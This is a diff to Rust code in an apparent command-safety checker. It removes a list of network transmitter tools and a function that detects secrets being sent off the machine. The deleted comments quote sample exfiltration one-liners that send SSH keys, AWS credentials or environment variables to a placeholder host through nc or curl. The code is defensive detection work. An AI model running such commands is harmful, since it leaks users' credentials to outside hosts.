@@ -1,9 +1,9 @@
 //! What the line's data carries from one command to another, where the command model alone
-//! cannot see it: a secret carried to the network (by a pipe, a substitution or a command's
-//! own input), text written where something later runs or obeys it (a start-up file, a
+//! cannot see it: text written where something later runs or obeys it (a start-up file, a
 //! package manager's configuration, the hosts file), a substitution whose value the line
 //! knows (`$(pwd)`, `$(mktemp -d)`, and the producers of [`super::producers`]), and a
-//! package runner handed a URL instead of a package.
+//! package runner handed a URL instead of a package. (Secrets carried along a line are
+//! `effects::secrets`'.)
 
 use std::borrow::Cow;
 
@@ -11,8 +11,8 @@ use gate_spec::effect::{Act, Place};
 
 use super::places::{self, Where};
 use super::shell::{in_substitution, printed, MAX_NESTING};
-use super::{Effect, Sink};
-use crate::shell::{Parsed, SimpleCommand};
+use super::Sink;
+use crate::shell::SimpleCommand;
 
 /// Wrappers (as the parser names them) that fetch a package and run it.
 pub(super) const PACKAGE_RUNNERS: &[&str] = &[
@@ -82,79 +82,6 @@ pub(super) fn later_text(
         if super::later::text_is_cron(lands, text, is_temp) {
             sink.path(Act::Cron, target);
         }
-    }
-}
-
-/// Programs that carry whatever data they are given to another host: a secret reaching one
-/// of them leaves the machine. (A secret manager's CLI, `gh secret set`, `kubectl create
-/// secret`, `fly secrets import`, is where secrets belong, and is not one of them.)
-const TRANSMITTERS: &[&str] = &[
-    "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp", "sftp", "rsync",
-    "rclone", "croc", "http", "https", "xh", "openssl",
-];
-
-/// A secret carried to the network: command `i` (whose effects start at `from` in `out`) is
-/// a transmitter, and what it sends includes a secret: one it reads itself (`nc HOST <
-/// ~/.aws/credentials`, `rsync ~/.ssh/ HOST:`), or one a command feeding it read, through a
-/// pipe and filters (`tar czf - ~/.ssh | curl -T - URL`) or a substitution (`curl -d
-/// "$(env)" URL`). The send is then also at that secret. Records what command `i` read.
-pub(super) fn carried_secret(
-    parsed: &Parsed<'_>,
-    i: usize,
-    secret_read: &mut Vec<(usize, String)>,
-    from: usize,
-    out: &mut Vec<Effect>,
-) {
-    let mine = &out[from..];
-    // A public key (`id_ed25519.pub`) is kept beside the secret but is not one.
-    if let Some(e) = mine
-        .iter()
-        .find(|e| e.act == Act::Read && e.place == Place::Secrets && !e.target.ends_with(".pub"))
-    {
-        secret_read.push((i, e.target.clone()));
-    }
-    let cmd = &parsed.commands[i];
-    if secret_read.is_empty()
-        || !TRANSMITTERS.contains(&&*cmd.program)
-        || !mine
-            .iter()
-            .any(|e| e.act == Act::Send && e.place == Place::Remote)
-    {
-        return;
-    }
-    let read_by = |k: usize| {
-        secret_read
-            .iter()
-            .find(|(c, _)| *c == k)
-            .map(|(_, t)| t.clone())
-    };
-    // Its own read, then the substitutions just before it, then its producers upstream
-    // (bounded by the number of commands).
-    let mut found = read_by(i);
-    for k in (0..i).rev() {
-        if found.is_some() || !in_substitution(&parsed.commands[k]) {
-            break;
-        }
-        found = read_by(k);
-    }
-    let mut frontier = vec![i];
-    let mut seen = vec![false; parsed.commands.len()];
-    while let (None, Some(k)) = (&found, frontier.pop()) {
-        for &(a, b) in &parsed.pipes {
-            if b != k || seen.get(a).copied().unwrap_or(true) {
-                continue;
-            }
-            seen[a] = true;
-            found = found.or_else(|| read_by(a));
-            frontier.push(a);
-        }
-    }
-    if let Some(target) = found {
-        out.push(Effect {
-            act: Act::Send,
-            place: Place::Secrets,
-            target,
-        });
     }
 }
 
